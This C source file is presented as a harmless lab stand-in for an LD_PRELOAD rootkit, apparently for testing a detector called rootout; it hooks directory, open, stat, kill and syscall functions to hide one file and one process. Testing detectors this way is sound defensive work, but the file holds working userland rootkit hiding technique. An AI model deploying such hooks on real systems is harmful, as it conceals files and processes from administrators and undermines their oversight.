/*
 * A harmless stand-in for a preload rootkit, for rootout's lab only: in every program that loads
 * it, the C library leaves out one file name and one process. It does nothing else.
 *
 * Compile with -DHIDDEN_NAME='"..."' and -DHIDDEN_PID='"..."'.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NEXT(name) ((__typeof__(&name))dlsym(RTLD_NEXT, #name))
#define PROC "/proc/" HIDDEN_PID

static int is_hidden(const char *path) {
    if (path == NULL) return 0;
    if (strstr(path, HIDDEN_NAME) != NULL || strcmp(path, HIDDEN_PID) == 0) return 1;
    size_t length = strlen(PROC);
    return strncmp(path, PROC, length) == 0 && (path[length] == 0 || path[length] == '/');
}

static int absent(void) {
    errno = ENOENT;
    return -1;
}

#define READDIR(name, type)                                                 \
    struct type *name(DIR *folder) {                                        \
        struct type *entry;                                                 \
        do entry = NEXT(name)(folder);                                      \
        while (entry != NULL && is_hidden(entry->d_name));                  \
        return entry;                                                       \
    }
READDIR(readdir, dirent)
READDIR(readdir64, dirent64)

#define OPEN(name)                                                          \
    int name(const char *path, int flags, ...) {                            \
        va_list more;                                                       \
        va_start(more, flags);                                              \
        int mode = va_arg(more, int);                                       \
        va_end(more);                                                       \
        return is_hidden(path) ? absent() : NEXT(name)(path, flags, mode);  \
    }
OPEN(open)
OPEN(open64)

#define OPENAT(name)                                                        \
    int name(int at, const char *path, int flags, ...) {                    \
        va_list more;                                                       \
        va_start(more, flags);                                              \
        int mode = va_arg(more, int);                                       \
        va_end(more);                                                       \
        return is_hidden(path) ? absent() : NEXT(name)(at, path, flags, mode); \
    }
OPENAT(openat)
OPENAT(openat64)

#define STAT(name, type)                                                    \
    int name(const char *path, struct type *facts) {                        \
        return is_hidden(path) ? absent() : NEXT(name)(path, facts);        \
    }
STAT(stat, stat)
STAT(lstat, stat)
STAT(stat64, stat64)
STAT(lstat64, stat64)

int fstatat(int at, const char *path, struct stat *facts, int flags) {
    return is_hidden(path) ? absent() : NEXT(fstatat)(at, path, facts, flags);
}

int fstatat64(int at, const char *path, struct stat64 *facts, int flags) {
    return is_hidden(path) ? absent() : NEXT(fstatat64)(at, path, facts, flags);
}

int access(const char *path, int mode) {
    return is_hidden(path) ? absent() : NEXT(access)(path, mode);
}

int kill(pid_t pid, int number) {
    if (pid != atoi(HIDDEN_PID)) return NEXT(kill)(pid, number);
    errno = ESRCH;
    return -1;
}

static long without_hidden(char *entries, long size) {
    /* struct linux_dirent64 (getdents64(2)): the record's length is at 16, the name at 19 */
    for (long at = 0; at < size;) {
        unsigned short length;
        memcpy(&length, entries + at + 16, sizeof length);
        if (is_hidden(entries + at + 19)) {
            memmove(entries + at, entries + at + length, size - at - length);
            size -= length;
        } else {
            at += length;
        }
    }
    return size;
}

/* The nasty part: programs that go round the functions above are caught here. */
long syscall(long number, ...) {
    va_list more;
    va_start(more, number);
    long a[6];
    for (int i = 0; i < 6; i++) a[i] = va_arg(more, long);
    va_end(more);
    if (number == SYS_openat && is_hidden((const char *)a[1])) return absent();
    long result = NEXT(syscall)(number, a[0], a[1], a[2], a[3], a[4], a[5]);
    if (number == SYS_getdents64 && result > 0) return without_hidden((char *)a[1], result);
    return result;
}
